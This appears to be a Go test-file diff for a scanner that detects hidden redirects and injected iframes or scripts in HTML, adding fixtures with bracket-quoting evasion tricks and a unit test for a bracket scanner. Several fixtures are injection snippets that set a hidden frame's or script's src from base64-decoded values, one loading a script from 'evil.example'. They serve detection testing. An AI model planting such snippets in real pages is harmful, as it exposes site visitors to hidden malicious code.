@@ -100,6 +100,11 @@ func TestHiddenRedirectFolded(t *testing.T) {
 		{"a built frame's src set by Object.assign", `<script>document.body.appendChild(Object.assign(document.createElement('iframe'), {width: 0, src: atob(k)}))</script>`, true},
 		{"a page's frame's src set by Object.assign", `<iframe id=v></iframe><script>var f=document.getElementById('v');Object.assign(f, {"src": atob(k)})</script>`, true},
 		{"a built script's src set by Object.assign", `<script>document.head.appendChild(Object.assign(document.createElement('script'), {src: atob('` + b("https://evil.example/k.js") + `')}))</script>`, true},
+		// A quoted bracket is no bracket: the key after it is read (topLevel)
+		{"a built frame's src set by Object.assign after a quoted parenthesis", `<script>document.body.appendChild(Object.assign(document.createElement('iframe'), {title: ')', src: atob(k)}))</script>`, true},
+		{"a frame's src set by jQuery's attr of an object after a quoted brace", `<iframe id=f></iframe><script>$('#f').attr({title: '}', src: atob(k)})</script>`, true},
+		{"a frame given its id by Object.assign after a quoted parenthesis", `<iframe></iframe><img id=a><script>Object.assign(document.querySelector('iframe'), {title: ')', id: 'b'});document.getElementById('b').src=atob(k)</script>`, true},
+		{"a src key inside a quoted string beside a frame", `<iframe id=f></iframe><script>$('#f').attr({title: '{src: 1}, ', alt: atob(k)});Object.assign(document.createElement('iframe'), {title: "', src: x"})</script>`, false},
 		{"a request's open", `<script>var x=new XMLHttpRequest();x.open('GET', atob(k))</script>`, false},
 		{"a function named open declared", `<script>function open(u){return u};var x=atob(k)</script>`, false},
 		{"a method named open declared", `<script>class A{ open(u) { this.u=u } };var u=atob(k);var o={open(u){return 1}}</script>`, false},
@@ -248,5 +253,32 @@ func TestFoldReflects(t *testing.T) {
 		if strings.Join(strings.Fields(string(n)), " ") != tc.want || len(n) != len(tc.in) {
 			t.Errorf("foldReflects(%q) = %q, want %q", tc.in, n, tc.want)
 		}
+	}
+}
+
+// TestTopLevel: the one bracket scanner counts brackets and skips quoted
+// strings whole, as callArgs, topComma and valueExpr read through it.
+func TestTopLevel(t *testing.T) {
+	for _, tc := range []struct {
+		b, stops string
+		want     int
+	}{
+		{"a, b)", ",", 1},
+		{"f(a, b), c", ",", 7},
+		{"')', b) c", "", 6},
+		{`"}", x}`, ",", 3},
+		{"`a,(`, b", ",", 5},
+		{"{a: ')'}, b", ",", 8},
+		{"'unclosed, (", ",", 12},
+		{"a; b", ";\n", 1},
+		{"x[';'];\ny", ";\n", 6},
+		{"abc", ",", 3},
+	} {
+		if got := topLevel([]byte(tc.b), tc.stops); got != tc.want {
+			t.Errorf("topLevel(%q, %q) = %d, want %d", tc.b, tc.stops, got, tc.want)
+		}
+	}
+	if got := string(callArgs([]byte("{title: ')', src: u}) + x"))); got != "{title: ')', src: u}" {
+		t.Errorf("callArgs = %q", got)
 	}
 }
